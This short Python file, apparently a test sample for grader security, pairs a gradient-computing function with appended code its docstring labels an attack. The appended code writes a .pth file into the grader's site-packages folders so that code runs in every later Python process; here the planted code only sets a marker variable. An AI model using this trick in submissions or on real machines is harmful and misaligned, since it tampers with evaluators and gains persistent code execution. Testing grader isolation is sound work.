"""Attack: plants a .pth file in the grader's site-packages, which every later python runs."""

import numpy as np
import torch


def graph2(W_np, x_np, b_np):
    W = torch.tensor(W_np, requires_grad=True)
    f = torch.sigmoid(W @ torch.tensor(x_np) + torch.tensor(b_np)).sum()
    f.backward()
    s = 1.0 / (1.0 + np.exp(-(W_np @ x_np + b_np)))
    return f, W.grad, (s * (1 - s)) @ x_np.T

import site, sys, os
for folder in {*site.getsitepackages(), *[p for p in sys.path if p.endswith("site-packages")]}:
    try:
        with open(os.path.join(folder, "zz_grader_attack.pth"), "w") as f:
            f.write("import os; os.environ['GRADER_ATTACK_PTH'] = '1'\n")
    except OSError:
        pass
